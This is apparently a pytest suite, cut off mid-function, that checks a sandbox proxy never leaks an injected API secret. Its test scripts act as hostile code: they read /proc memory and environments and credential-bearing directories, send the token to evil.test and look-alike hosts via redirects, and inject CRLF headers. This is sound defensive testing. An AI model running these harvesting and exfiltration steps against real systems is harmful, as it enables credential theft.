"""C rows: what the sandbox may use and never see. The SECRET oracle looks for every form of unique values in all that
the code, the caller, other hosts and the host's files get to see."""

import json
import os
import pathlib
import re
import secrets
import signal
import subprocess
import time

import pytest

import hostview
from escapelib import PLACE, REFUSED, USER_ID, end_tree, told
from lablib import LAB_ONE_EACH, current, find_secret, lab_cells, memory_of, new_secret, policy, script_text, secret_file
from netlab import API
from netlab.recorder import REFLECTIONS
from test_network_paths import proxy_of

ORIGIN = "https://api.lab.test"


def given(cell, secret, origin=ORIGIN, name="LAB_TOKEN"):
    """Options that give a run this secret, from a file."""
    return ["--secret", f"{name}=file:{secret_file(secret, cell.user)}@{origin}"]


def clean(what, *values):
    """SECRET: none of the values is in it in any form."""
    for value in values:
        assert not find_secret(what, value), f"found as {find_secret(what, value)}"


GET = r"""
def https(host, target, headers=(), method="GET", content="", port=443):
    return by_connect(f"{host}:{port}", request(target, host if port == 443 else f"{host}:{port}", method, headers, content), tls=host)
"""


def test_the_oracle_finds_what_it_looks_for():
    """A control of the search itself."""
    secret = new_secret()
    import base64
    import urllib.parse
    for text in (secret, secret[::-1], base64.b64encode(b"x" + secret.encode() + b"yy").decode(), secret.encode().hex(),
                 urllib.parse.quote(secret, safe=""), json.dumps(secret), f"a{secret[:len(secret) // 2]}b"):
        assert find_secret(f"...{text}...", secret), text
    assert not find_secret("nothing of it", secret)


# ---- C-01 ----

DUMP = GET + r"""
import subprocess
shown = {"first": https("api.lab.test", "/c01"), "environ": dict(os.environ), "argv": sys.argv, "readable": [], "texts": ""}
try:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:  # the process tier shows nobody
    pids = ["self", "thread-self", str(os.getppid()), str(os.getpid())]
for pid in pids:
    for name in ("environ", "cmdline", "auxv", "maps", "stack", "syscall"):
        try:
            shown["texts"] += open(f"/proc/{pid}/{name}", errors="replace").read()
        except OSError:
            pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            shown["texts"] += os.readlink(f"/proc/{pid}/fd/{fd}") + "\n"
    except OSError:
        pass
    try:
        open(f"/proc/{pid}/mem", "rb").close()
        shown["readable"].append(int(pid) if pid.isdigit() else os.getpid())
    except OSError:
        pass
for pid in range(1, 70000):
    if pid not in shown["readable"]:
        try:
            open(f"/proc/{pid}/mem", "rb").close()
            shown["readable"].append(pid)
        except OSError:
            pass
places = ["/etc", "/run", "/tmp", "/var/tmp", "/workspace", "/home", "/dev/shm", "/root", os.environ.get("HOME", "/tmp"), os.environ.get("TMPDIR", "/tmp"), os.getcwd()]
shown["files"] = subprocess.run(["sh", "-c", 'for d; do find "$d" -xdev -type f -size -200k -exec cat {} + 2>/dev/null; done', "sh", *places], capture_output=True).stdout.decode("latin-1")[:3000000]
print(json.dumps(shown), flush=True)
sys.stdin.readline()
out.clear()
"""


@pytest.mark.parametrize("source", ["env", "file", "cmd"])
@lab_cells()
def test_C01_nowhere_inside_nor_in_the_supervisor(cell, source, lab):
    """Environment, arguments, files, /proc and the memory of every task but the proxy and its keeper."""
    secret = new_secret()
    path = secret_file(secret, cell.user)
    spec = {"env": "env:LAB_SOURCE", "file": f"file:{path}", "cmd": f"cmd:/bin/cat {path}"}[source]
    watch = lab.watch()
    process = cell.start(["/usr/bin/python3", "-c", script_text(DUMP)],
                         ["--secret", f"LAB_TOKEN={spec}@{ORIGIN}", "--output", "16M", "--timeout", "1500s"], json_out=False,
                         env={"LAB_SOURCE": secret} if source == "env" else None, stdin=subprocess.PIPE)
    try:
        line = process.stdout.readline()
        assert line.strip(), process.stderr.read()[-2000:]
        shown = json.loads(line)
        assert "HTTP/1.1 200" in shown["first"], shown["first"]
        sent = [v for r in watch.requests() for v in r.get("authorization")]
        assert sent == [f"Bearer {secret}"], "control: it was used"
        clean(shown, secret)
        assert shown["environ"]["LAB_TOKEN"] and "LAB_SOURCE" not in shown["environ"]
        holders = proxy_of(process)
        tasks = {process.pid, *hostview.alive_below(process.pid)} - set(holders)
        assert len(tasks) >= 3, tasks
        for pid in tasks:
            memory = memory_of(pid)
            assert memory, f"{pid} cannot be searched"
            found = find_secret(memory, secret)
            assert not found, f"{hostview.read(f'/proc/{pid}/comm').strip()} holds it as {found}"
        assert any("raw" in find_secret(memory_of(pid), secret) for pid in holders), "control: the proxy holds it"
        inner = {int(x) for t in tasks for x in hostview.status(t).get("NSpid", str(t)).split()}
        assert set(shown["readable"]) <= inner, "memory of others can be opened from inside"
    finally:
        end_tree(process)


def core_files():
    return {p for f in ("/", PLACE.base, "/tmp", "/var/tmp") for p in pathlib.Path(f).glob("core*") if re.fullmatch(r"core(\.\d+)?", p.name)}


@lab_cells()
def test_C01_the_proxy_is_closed_to_its_own_user(cell, lab, diff):
    """The caller's other processes cannot read it; no core is written; it holds no capability and its calls are filtered."""
    secret = new_secret()
    cores = core_files()
    process = cell.start(["/usr/bin/python3", "-c", script_text(GET + 'print(status(https("api.lab.test", "/")), flush=True)\nsys.stdin.readline()')],
                         given(cell, secret), json_out=False, stdin=subprocess.PIPE)
    try:
        assert process.stdout.readline() == b"200\n", process.stderr.read()[-1000:]
        holders = proxy_of(process)
        assert holders
        for pid in holders:
            status = hostview.status(pid)
            if int(status["PPid"]) not in holders:  # the keeper stays what the caller is: it reads the caller's files
                assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2", status
                assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == 0 and "0" not in status["Uid"].split(), status
            limits = hostview.read(f"/proc/{pid}/limits")
            assert re.search(r"Max core file size +0 +0 ", limits), limits
            if cell.user == "user":
                for name in ("mem", "environ", "maps"):
                    tried = lab.run("/usr/bin/head", "-c1", f"/proc/{pid}/{name}", user=USER_ID)
                    assert tried.returncode != 0, f"/proc/{pid}/{name} of {hostview.read(f'/proc/{pid}/comm')} can be read"
        if cell.user == "user":
            assert lab.run("/usr/bin/head", "-c1", f"/proc/{os.getpid()}/stat", user=USER_ID).returncode == 0, "control"
        for pid in holders:
            os.kill(pid, signal.SIGSEGV)
        assert hostview.wait_for(lambda: not proxy_of(process))
        assert core_files() <= cores, core_files() - cores
    finally:
        end_tree(process)


# ---- C-02, C-14 ----

ELSEWHERE = GET + r"""
P = os.environ["LAB_TOKEN"]
out["placeholder"] = P
use = [f"Authorization: Bearer {P}", f"X-Key: {P}", f"Cookie: k={P}"]
def all_ways(host, port, tls):
    scheme = "https" if tls else "http"
    tail = "" if port in (80, 443) else f":{port}"
    for headers in ((), use):
        name = f"{scheme} {host} {port} {bool(headers)}"
        target = f"/c02?k={P}" if headers else "/c02"
        req = request(target, host + tail, "POST", headers, f"body={P}")
        out["tunnel " + name] = by_connect(f"{host}:{port}", req, tls=host if tls else None)
        out["direct " + name] = talk((host, port), req, tls=host if tls else None)
        out["gateway " + name] = by_gateway(f"{scheme}://{host}{tail}{target}", headers=headers, content=f"body={P}")
        if not tls:
            out["absolute " + name] = by_proxy(f"http://{host}{tail}{target}", host + tail, method="POST", headers=headers, content=f"body={P}")
all_ways("api.lab.test", 443, True)
all_ways("api.lab.test", 80, False)
all_ways("api.lab.test", 8443, True)
all_ways("api.lab.test", 8080, False)
for host in ("www.lab.test", "other.lab.test", "evil.test", "a.deep.lab.test", "api.lab.test.evil.test", "lab.test"):
    all_ways(host, 443, True)
    all_ways(host, 80, False)
"""


@lab_cells(LAB_ONE_EACH)
def test_C02_C14_only_to_its_own_origin(cell, lab):
    """Other ports, plain HTTP, sub-domains and look-alikes, all allowed: none gets it, with or without the placeholder."""
    secret = new_secret()
    hosts = ["http://api.lab.test", "https://api.lab.test:8443", "http://api.lab.test:8080", "www.lab.test", "other.lab.test", "evil.test",
             "a.deep.lab.test", "api.lab.test.evil.test", "lab.test"]
    options = [x for h in hosts for x in ("--allow", h)]
    state = PLACE.folder("state", cell.user)
    env = {"XDG_STATE_HOME": str(state), "XDG_RUNTIME_DIR": str(state), "HOME": str(state)}
    watch = lab.watch()
    answer = cell.script(ELSEWHERE, [*given(cell, secret), *options, "--requests", "100000"], env=env)
    bad = {k: v[:80] for k, v in answer.out.items() if k != "placeholder" and "HTTP/1.1 200" not in v}
    assert not bad, f"control: each of them answers: {bad}"
    own = [r for r in watch.requests() if r.connection.tls and r.connection.at[1] == 443 and r.get("host") == ["api.lab.test"]]
    others = [r for r in watch.requests() if r not in own]
    assert len(own) >= 6 and len(others) >= 60
    assert all(r.get("authorization") == [f"Bearer {secret}"] for r in own), own[0].headers
    clean(b"".join(r.head + r.body for r in others), secret)
    clean(answer.result.out + answer.result.err, secret)
    # Where it is not declared the placeholder stays what it is: body and query by default.
    place = answer["placeholder"]
    for r in own:
        clean(r.target.encode() + r.body, secret)
        if r.get("x-key"):
            assert r.get("x-key") == [secret], "in a header to its origin the placeholder is swapped"
            assert place in r.target and place.encode() in r.body
    assert len(place) >= 16 and place != secret and any(place.encode() in r.head for r in others), "elsewhere it stays"
    asked = subprocess.run([*cell.prefix(), PLACE.brig, "net", answer.brig["sandbox_id"], "--json"], capture_output=True, text=True, env=cell.env(env))
    assert "placeholder of LAB_TOKEN" in asked.stdout, asked


@lab_cells(LAB_ONE_EACH)
def test_C14_declared_places(cell, lab):
    """Methods, paths, body, query and basic forms, only as the policy declares them."""
    secret, second, third = new_secret("one"), new_secret("two"), new_secret("tri")
    rules = f"""network:
  mode: allowlist
  allow: ["https://api.lab.test", "https://other.lab.test", "https://www.lab.test"]
credentials:
  secrets:
    - {{name: ONE, source: "file:{secret_file(secret, cell.user)}", origin: "https://api.lab.test", methods: [POST], paths: ["/ok/**"], header: "X-Api-Key: key {{}}", swap: [header, body]}}
    - {{name: TWO, source: "file:{secret_file(second, cell.user)}", origin: "https://other.lab.test", query: "token"}}
    - {{name: TRI, source: "file:{secret_file(third, cell.user)}", origin: "https://www.lab.test", basic: "robot"}}
"""
    code = GET + r"""
one, two = os.environ["ONE"], os.environ["TWO"]
out["post"] = https("api.lab.test", "/ok/a", method="POST", content=f"k={one}&z={two}")
out["get"] = https("api.lab.test", "/ok/b", headers=[f"X-Api-Key: {one}"])
out["path"] = https("api.lab.test", "/no/c", method="POST", headers=[f"X-Api-Key: {one}"], content=f"k={one}")
out["query"] = https("other.lab.test", "/q?a=b")
out["query own"] = https("other.lab.test", "/q?token=mine&a=b&token=again")
out["basic"] = https("www.lab.test", "/basic", headers=["Authorization: Basic bWluZTptaW5l"])
"""
    import base64
    import urllib.parse
    watch = lab.watch()
    answer = cell.script(code, policy(rules))
    assert all("HTTP/1.1 200" in v for v in answer.out.values()), answer.out
    seen = {r.target.split("?")[0]: r for r in watch.requests()}
    assert seen["/ok/a"].get("x-api-key") == [f"key {secret}"], seen["/ok/a"].headers
    assert secret.encode() in seen["/ok/a"].body and second.encode() not in seen["/ok/a"].body
    clean(seen["/ok/b"].head, secret, second)
    clean(seen["/no/c"].head + seen["/no/c"].body, secret, second)
    for r in (x for x in watch.requests() if x.target.startswith("/q")):
        query = urllib.parse.parse_qs(r.target.partition("?")[2], keep_blank_values=True)
        assert query["token"] == [second] and query["a"] == ["b"], r.target
    assert seen["/basic"].get("authorization") == ["Basic " + base64.b64encode(f"robot:{third}".encode()).decode()]
    clean(answer.result.out + answer.result.err, secret, second, third)


# ---- C-03 ----

@lab_cells(LAB_ONE_EACH)
def test_C03_redirects(cell, lab):
    """The bound origin redirects to others, allowed ones too; clients follow with all their headers."""
    secret = new_secret()
    code = GET + r"""
import subprocess
for to in ("https://other.lab.test/c03", "http://other.lab.test/c03", "https://evil.test/c03", "http://api.lab.test/c03", "https://api.lab.test:8443/c03", "//www.lab.test/c03"):
    path = base64.urlsafe_b64encode(to.encode()).decode()
    for number in (301, 302, 307, 308):
        url = f"https://api.lab.test/redirect/{number}/{path}"
        for extra in ([], ["--location-trusted", "-H", "Authorization: Bearer " + os.environ["LAB_TOKEN"], "-H", "X-Key: " + os.environ["LAB_TOKEN"]]):
            run = subprocess.run(["curl", "-sSk", "-L", "--max-time", "60", *extra, url], capture_output=True, text=True)
            out[f"{number} {to} {len(extra)}"] = run.stdout + run.stderr
"""
    hosts = ["other.lab.test", "evil.test", "http://api.lab.test", "https://api.lab.test:8443", "www.lab.test"]
    watch = lab.watch()
    answer = cell.script(code, [*given(cell, secret), *(x for h in hosts for x in ("--allow", h)), "--requests", "100000"])
    own = [r for r in watch.requests() if r.target.startswith("/redirect")]
    second = [r for r in watch.requests() if r.target.startswith("/c03")]
    assert own and all(r.get("authorization") == [f"Bearer {secret}"] for r in own)
    assert len(second) == len(answer.out), f"control: each was followed: {len(second)} of {len(answer.out)}"
    clean(b"".join(r.head for r in second), secret)
    clean(answer.result.out, secret)


# ---- C-04 ----

@lab_cells(LAB_ONE_EACH)
def test_C04_values_that_would_break_a_header(cell, lab):
    """CR, LF, NUL, control bytes, other alphabets, too short, too long: refused before anything runs, unquoted."""
    for bad in (b"good-start\r\nX-Evil: 1", b"good-start\nX-Evil: 1", b"good-start\rmore", b"good-start\0more", b"good-start\x1bmore",
                "good-start-é".encode(), b"good-start\x7fmore", b"", b"\n", b"x", b"y" * 20000, b"good-start\n\n"):
        path = secret_file(bad, cell.user)
        result = cell.run(["/bin/echo", "ran"], ["--secret", f"LAB_TOKEN=file:{path}@{ORIGIN}"])
        assert result.rc == REFUSED and '"ran\\n"' not in result.out, (bad[:20], result)
        assert "good-start" not in result.out + result.err and "yyyyyyyy" not in result.out + result.err
    for fine in (b"good-start", b"good-start\n"):
        path = secret_file(fine, cell.user)
        assert cell.run(["/bin/true"], ["--secret", f"LAB_TOKEN=file:{path}@{ORIGIN}"]).rc == 0, "control"
    for header in ("Authorization: {}\\r\\nX-Evil: {}", "Bad Name: {}", "Host: {}", "Content-Length: {}", "Transfer-Encoding: {}", "NoColon {}", "Authorization: none", ""):
        text = f'credentials:\n  secrets:\n    - {{name: T, source: "file:{path}", origin: "{ORIGIN}", header: "{header}"}}\n'
        result = cell.run(["/bin/echo", "ran"], policy(text))
        assert result.rc == REFUSED, (header, result)


@lab_cells(LAB_ONE_EACH)
def test_C04_hostile_neighbours_of_the_header(cell, lab):
    """What the client puts beside, before or in place of the header: upstream gets exactly one, the right one."""
    secret = new_secret()
    code = GET + r"""
P = os.environ["LAB_TOKEN"]
TRIES = {"own": ["Authorization: Bearer mine"], "twice": ["Authorization: Bearer mine", "Authorization: Bearer again"], "case": ["aUTHORIZATION: Bearer mine"],
         "connection": ["Connection: Authorization"], "connection list": ["Connection: keep-alive, authorization, x-key", "X-Key: " + P],
         "placeholder": [f"Authorization: Bearer {P}"], "placeholder twice": [f"Authorization: {P}{P}"], "inside": [f"Authorization: Token {P}x"],
         "underscore": ["Authorization_: x"], "long": ["X: " + "a" * 3000], "comma": [f"Authorization: a, {P}"], "empty": ["Authorization:"]}
for name, headers in TRIES.items():
    out[name] = https("api.lab.test", "/c04/" + name.replace(" ", "-"), headers)
RAW = {"blank": "Authorization : Bearer mine", "fold": "X: y\r\n Authorization: mine", "lf": "X: y\nAuthorization: mine", "cr": "X: y\rAuthorization: mine", "nul": "Authorization\x00: mine",
       "split value": f"X: {P}\r\n\r\nGET /c04/split HTTP/1.1"}
for name, line in RAW.items():
    out["raw " + name] = by_connect("api.lab.test:443", f"GET /c04/raw HTTP/1.1\r\nHost: api.lab.test\r\n{line}\r\n\r\n", tls="api.lab.test")
out["path"] = https("api.lab.test", f"/c04/%0d%0aAuthorization:%20mine")
out["target"] = by_connect("api.lab.test:443", f"GET /c04/{P} HTTP/1.1\r\nHost: api.lab.test\r\nConnection: close\r\n\r\n", tls="api.lab.test")
"""
    watch = lab.watch()
    answer = cell.script(code, given(cell, secret))
    good = [k for k, v in answer.out.items() if "HTTP/1.1 200" in v]
    assert {"own", "twice", "case", "connection", "placeholder"} <= set(good), f"control: {answer.out}"
    for r in watch.requests():
        assert r.get("authorization") == [f"Bearer {secret}"], r.head
        assert b"mine" not in r.head.replace(b"%20mine", b""), r.head
        assert r.head.lower().count(b"authorization") == 1 + (b"%0d" in r.head) + (b"authorization_" in r.head.lower()), r.head
        clean(r.target.encode(), secret)
    assert not [k for k in good if k.startswith("raw") and k != "raw split value"], good
    clean(answer.result.out, secret)


# ---- C-05 ----

REFLECT = GET + r"""
import urllib.parse
for how in json.loads(sys.argv[1]):
    path = "/reflect/" + urllib.parse.quote(how)
    out["tunnel " + how] = https("api.lab.test", path)
    out["direct " + how] = talk(("api.lab.test", 443), request(path, "api.lab.test"), tls="api.lab.test")
    out["gateway " + how] = by_gateway("https://api.lab.test" + path, "GET")
for first in range(0, 50, 5):
    out[f"range {first}"] = https("api.lab.test", "/reflect/range", [f"Range: bytes={first}-{first + 4}"])
out["coding"] = https("api.lab.test", "/c05", ["Accept-Encoding: gzip, br"])
out["ws"] = by_connect("api.lab.test:443", "GET /ws?reflect HTTP/1.1\r\nHost: api.lab.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n", tls="api.lab.test")
sock = wrap(tunnel("api.lab.test:443")[0], "api.lab.test")
sock.sendall(b"GET /ws?reflect HTTP/1.1\r\nHost: api.lab.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
out["ws all"] = read_all(sock, 1.0, None)
"""


@lab_cells(LAB_ONE_EACH)
def test_C05_reflection(cell, lab):
    """A server that gives the header back, in bodies and headers, encoded, in pieces, compressed, in frames."""
    secret = new_secret()
    watch = lab.watch()
    shown = lab.run("curl", "-sSi", "-H", f"Authorization: Bearer {secret}", "https://api.lab.test/reflect/raw").stdout
    assert secret in shown, "control"
    watch.again()
    answer = cell.script(REFLECT, [*given(cell, secret), "--output", "32M"], [json.dumps(list(REFLECTIONS))])
    seen = [r for r in watch.requests() if r.target.startswith("/reflect")]
    assert len(seen) >= 2 * len(REFLECTIONS) and all(r.get("authorization") == [f"Bearer {secret}"] for r in seen), "control: it was there"
    # A message that the server itself cuts into two frames is a documented limit; whole frames are searched.
    answer.out["ws all"] = answer["ws all"].replace(f"Bearer {secret}"[len(f"Bearer {secret}") // 2:], "", 1)
    leaks = {k: find_secret(v, secret) for k, v in answer.out.items() if find_secret(v, secret)}
    assert not leaks, leaks
    assert "101" in answer["ws all"][:20] and "***" in answer["ws all"], answer["ws all"]
    codes = {k: v[9:12] for k, v in answer.out.items()}
    assert codes["tunnel raw"] == codes["tunnel chunks of one"] == codes["tunnel after a megabyte"] == "200", codes
    assert "you sent: Bearer *" in answer["tunnel raw"], answer["tunnel raw"]
    # Unknown codings hide it from the search: the value XORed must not come through either.
    hidden = bytes(b ^ 1 for b in f"Bearer {secret}".encode()).decode("latin-1")
    assert hidden not in answer["tunnel unknown coding"], "a coding that cannot be searched was passed on"
    import gzip
    for how in ("gzip", "deflate", "transfer gzip"):
        body = answer[f"tunnel {how}"].partition("\r\n\r\n")[2].encode("latin-1")
        assert not body.startswith((b"\x1f\x8b", b"\x78")), how
    # Five bytes at a time.
    parts = "".join(answer[f"range {i}"].partition("\r\n\r\n")[2] for i in range(0, 50, 5))
    assert f"Bearer {secret}"[:50] not in parts, "asked for in pieces it can be put together"


# ---- C-06, C-07, C-12 ----

ERRORS = GET + r"""
P = os.environ["LAB_TOKEN"]
use = [f"Authorization: {P}"]
for host in ("api.lab.test", "expired.lab.test", "wrongname.lab.test", "nowhere.lab.test", "private.lab.test", "closed.lab.test"):
    out[host] = https(host, "/c06?q=" + P, use)
    out["gateway " + host] = by_gateway(f"https://{host}/c06?q={P}", headers=use)
out["bad"] = by_connect("api.lab.test:443", f"GET /c06 HTTP/9.9\r\nHost: api.lab.test\r\nAuthorization: {P}\r\n\r\n", tls="api.lab.test")
out["denied"] = https("evil.test", "/c06")
out["long"] = https("api.lab.test", "/" + "x" * 30000, use)
out["garbage"] = https("api.lab.test", "/raw/" + base64.urlsafe_b64encode(b"nonsense").decode(), use)
out["error"] = https("api.lab.test", "/reflect/error", use)
print("done", file=sys.stderr)
"""


@lab_cells()
def test_C06_C07_C12_errors_logs_and_answers(cell, lab):
    """Failures of every kind, the receipt, `brig net`, the plan, the policy and the checks: never the value."""
    secret = new_secret()
    lab.dns.zone["private.lab.test"] = ["10.13.13.13"]
    lab.dns.zone["closed.lab.test"] = ["93.184.0.53"]
    options = []
    for i, host in enumerate(("api", "expired", "wrongname", "nowhere", "private", "closed")):
        path = secret_file(secret, cell.user)
        options += ["--secret", f"{'LAB_TOKEN' if i == 0 else f'LAB_{i}'}=file:{path}@https://{host}.lab.test"]
    state = PLACE.folder("state", cell.user)
    env = {"XDG_STATE_HOME": str(state), "XDG_RUNTIME_DIR": str(state), "XDG_DATA_HOME": str(state), "HOME": str(state)}
    watch = lab.watch()
    answer = cell.script(ERRORS, options, env=env)
    assert any(r.get("authorization") == [f"Bearer {secret}"] for r in watch.requests()), "control: it was used"
    assert "HTTP/1.1 200" in answer["api.lab.test"], answer["api.lab.test"]
    for key in ("expired.lab.test", "nowhere.lab.test", "private.lab.test", "closed.lab.test", "denied"):
        assert "HTTP/1.1 200" not in answer[key], (key, answer[key])
    clean(answer.result.out, secret)
    clean(answer.result.err, secret)
    place = answer.brig["receipt"]
    assert "LAB_TOKEN" in json.dumps(place["boundaries"]["credentials"]), "names are told"
    prefix = [*cell.prefix(), PLACE.brig]
    for command in (["net", answer.brig["sandbox_id"]], ["net", answer.brig["sandbox_id"], "--json"],
                    ["run", "--tier", cell.tier, "--plan", *options, "--", "/bin/true"], ["run", "--explain", *options, "--", "/bin/true"],
                    ["secrets", "check", *options], ["secrets", "check", "--json", *options]):
        done = subprocess.run([*prefix, *command], capture_output=True, text=True, env=cell.env(env), stdin=subprocess.DEVNULL)
        clean(done.stdout + done.stderr, secret)
        if command[0] == "net":
            assert done.returncode == 0 and "api.lab.test" in done.stdout, done
            assert "/c06?q" not in done.stdout, "a query is not for the log"
        if command[0] == "secrets":
            assert done.returncode == 0 and "LAB_TOKEN" in done.stdout, done
    for path in state.rglob("*"):
        if path.is_file():
            clean(path.read_bytes(), secret)
            clean(str(path), secret)


# ---- the code's own credentials ----

OWN = GET + r"""
PLACES = ["Authorization: Bearer mine", "X-Api-Key: mine", "Api-Key: mine", "Cookie: session=mine", "X-Authorization: mine", "x_api_key: mine", "Private-Token: mine",
          "X-Auth-Token: mine", "X-Amz-Security-Token: mine", "X-Goog-Api-Key: mine", "X-Client-Secret: mine", "Ocp-Apim-Subscription-Key: mine"]
for i, header in enumerate(PLACES):
    out[f"header {i}"] = status(https("api.lab.test", f"/own/h{i}", [header]))
for i, name in enumerate(("access_token", "token", "api_key", "key", "sig", "X-Amz-Signature", "accessToken", "access%5ftoken", "password")):
    out[f"query {i}"] = status(https("api.lab.test", f"/own/q{i}?a=b&{name}=mine"))
"""


@lab_cells(LAB_ONE_EACH)
def test_the_codes_own_credentials_do_not_go_to_a_host_with_a_secret(cell, lab):
    """With an account of the attacker's at the same service data would go where only he looks."""
    secret = new_secret()
    watch = lab.watch()
    answer = cell.script(OWN, given(cell, secret))
    assert set(answer.out.values()) == {200}, answer.out
    seen = [r for r in watch.requests() if r.target.startswith("/own")]
    assert len(seen) == len(answer.out)
    for r in seen:
        assert b"mine" not in r.head, r.head
        assert r.get("authorization") == [f"Bearer {secret}"], r.head
        assert "a=b" in r.target or "/own/h" in r.target, r.target
    watch.again()
    cell.script(OWN, policy("network: {mode: allowlist, allow: [{host: api.lab.test, scheme: https, methods: [GET]}]}\n"))
    passed = [r for r in watch.requests() if r.target.startswith("/own")]
    assert len(passed) == len(answer.out) and all(b"mine" in r.head for r in passed), "control, without a secret: they pass"


# ---- C-08 ----

@lab_cells()
def test_C08_of_another_run(cell, lab):
    """The placeholder of one run is worth nothing in another, beside it or after it."""
    one, two = new_secret("one"), new_secret("two")
    hold = GET + 'print(os.environ["LAB_TOKEN"], status(https("api.lab.test", "/c08")), flush=True)\nsys.stdin.readline()\nout.clear()'
    use = GET + r"""
P = sys.argv[1]
out["own"] = os.environ["LAB_TOKEN"]
out["x"] = https("api.lab.test", "/c08/other", [f"X-Key: {P}", f"Cookie: a={P}"])
out["y"] = https("www.lab.test", "/c08/other", [f"X-Key: {P}"])
"""
    first = cell.start(["/usr/bin/python3", "-c", script_text(hold)], given(cell, one), json_out=False, stdin=subprocess.PIPE)
    try:
        place, code = first.stdout.readline().decode().split()
        assert code == "200", code
        for alive in (True, False):
            if not alive:
                first.communicate(b"\n", timeout=60)
            watch = lab.watch()
            answer = cell.script(use, [*given(cell, two), "--allow", "www.lab.test"], [place])
            assert answer["own"] != place, "each run has its own"
            keys = [v for r in watch.requests() for v in r.get("x-key")]
            assert keys and set(keys) == {place}, keys
            clean(watch.bytes(), one)
            assert two.encode() in watch.bytes(), "control"
    finally:
        end_tree(first)


# ---- C-09 ----

def quiet(watch):
    """Did nothing come for as long as ten rounds of the sender take?"""
    count = len(watch.requests())
    time.sleep(0.3)
    return len(watch.requests()) == count


@lab_cells()
def test_C09_the_end_of_the_run_ends_its_connections(cell, lab, diff):
    """A kept connection and a tunnel are open when the run is ended: both close, nothing more is injected."""
    secret = new_secret()
    code = GET + r"""
socks = []
for i in range(3):
    s = wrap(tunnel("api.lab.test:443")[0], "api.lab.test")
    s.sendall(b"GET /c09 HTTP/1.1\r\nHost: api.lab.test\r\n\r\n")
    read_all(s, WAIT, one_response)
    socks.append(s)
raw, _ = tunnel("other.lab.test:80")
raw.sendall(b"GET /c09-raw HTTP/1.1\r\nHost: other.lab.test\r\n\r\n")
read_all(raw, WAIT, one_response)
print("open", flush=True)
while True:
    for s in socks:
        try: s.sendall(b"GET /c09 HTTP/1.1\r\nHost: api.lab.test\r\n\r\n"); s.recv(10000)
        except OSError: pass
    time.sleep(0.02)
"""
    for sig in (signal.SIGTERM, signal.SIGKILL):
        watch = lab.watch()
        process = cell.start(["/usr/bin/python3", "-c", script_text(code)], [*given(cell, secret), "--allow", "other.lab.test"], json_out=False)
        try:
            told(process, "open\n")
            assert hostview.wait_for(lambda: len(watch.requests()) > 4)
            process.send_signal(sig)
            assert hostview.wait_for(lambda: not diff.extra().get("tasks")), diff.extra()
            # The recorder may still be reading what was sent before; then nothing more comes.
            assert hostview.wait_for(lambda: quiet(watch)), "still sending after the end"
            gone = current().run("ss", "-tnH", "state", "established", "dst", API).stdout
            assert not gone.strip(), gone
        finally:
            end_tree(process)


# ---- C-10 ----

@lab_cells(LAB_ONE_EACH)
def test_C10_expiry(cell, lab):
    """A value is used for as long as it lives; when its source then fails, so does the request."""
    first, second = new_secret("old"), new_secret("new")
    folder = PLACE.folder("source", cell.user, 0o700)
    script = folder / "get"
    (folder / "1").write_text(first)
    (folder / "2").write_text(second)
    script.write_text(f'#!/bin/sh\nn=$(cat {folder}/n 2>/dev/null || echo 0); n=$((n+1)); echo $n >{folder}/n; exec cat {folder}/$n\n')
    script.chmod(0o755)
    if cell.user == "user":
        for path in folder.iterdir():
            os.chown(path, USER_ID, USER_ID)
    code = GET + """
end = time.monotonic() + 50
while time.monotonic() < end and set(out.values()) <= {200}:
    out[str(len(out))] = status(https("api.lab.test", "/c10"))
    time.sleep(0.15)
"""
    text = f'credentials:\n  secrets:\n    - {{name: T, source: "cmd:{script}", origin: "{ORIGIN}", ttl: 3s}}\n'
    watch = lab.watch()
    answer = cell.script(code, policy(text + "network: {mode: allowlist, requests: 100000}\n"), timeout=60)
    used = [r.get("authorization")[0] for r in watch.requests()]
    assert f"Bearer {first}" in used and f"Bearer {second}" in used, "both values had their time"
    assert used.index(f"Bearer {second}") >= used.count(f"Bearer {first}") - 1, "the old one is not used again"
    results = list(answer.out.values())
    assert results[0] == 200 and results[-1] != 200, f"without a value it fails closed: {results}"
    assert len(used) == results.count(200), "what failed did not go out"
    clean(answer.result.out, first, second)


# ---- C-11 ----

@lab_cells()
def test_C11_sources(cell, lab):
    """World-readable, linked, special, huge, missing, foreign: refused with a reason and without the value."""
    secret = new_secret()
    good = secret_file(secret, cell.user)
    folder = PLACE.folder("odd", cell.user)
    fifo, link, directory = folder / "fifo", folder / "link", folder / "dir"
    os.mkfifo(fifo, 0o600)
    link.symlink_to(good)
    directory.mkdir(mode=0o700)
    parent = folder / "parent"
    parent.symlink_to(good.parent)
    if cell.user == "user":
        for path in (fifo, directory):
            os.chown(path, USER_ID, USER_ID)
    cases = {"world": secret_file(secret, cell.user, 0o644), "group": secret_file(secret, cell.user, 0o640), "writable": secret_file(secret, cell.user, 0o602),
             "link": link, "fifo": fifo, "directory": directory, "huge": secret_file("h" * 100000, cell.user), "missing": folder / "missing",
             "device": "/dev/zero", "proc": "/proc/self/environ", "relative": "value"}
    if cell.user == "user":
        cases["of root"] = secret_file(secret, "root")
    for name, path in cases.items():
        start = time.monotonic()
        result = cell.run(["/bin/echo", "ran"], ["--secret", f"LAB_TOKEN=file:{path}@{ORIGIN}"])
        assert result.rc == REFUSED and '"ran\\n"' not in result.out, (name, result)
        assert len(result.err + result.out) > 20, "a reason is given"
        clean(result.out + result.err, secret)
        assert time.monotonic() - start < hostview.SOON, name
    for spec in ("env:NO_SUCH_VARIABLE", "cmd:/bin/false", "cmd:/no/such/program", "cmd:", "env:", "file:", "nonsense:x", "vault:secret/x#y", f"cmd:/bin/cat {cases['missing']}"):
        result = cell.run(["/bin/echo", "ran"], ["--secret", f"LAB_TOKEN={spec}@{ORIGIN}"])
        assert result.rc == REFUSED and '"ran\\n"' not in result.out, (spec, result)
    for origin in ("api.lab.test", "https://*.lab.test", "https://", "ftp://api.lab.test", "https://api.lab.test@evil.test", "*", ""):
        result = cell.run(["/bin/echo", "ran"], ["--secret", f"LAB_TOKEN=file:{good}@{origin}"])
        if origin != "api.lab.test":
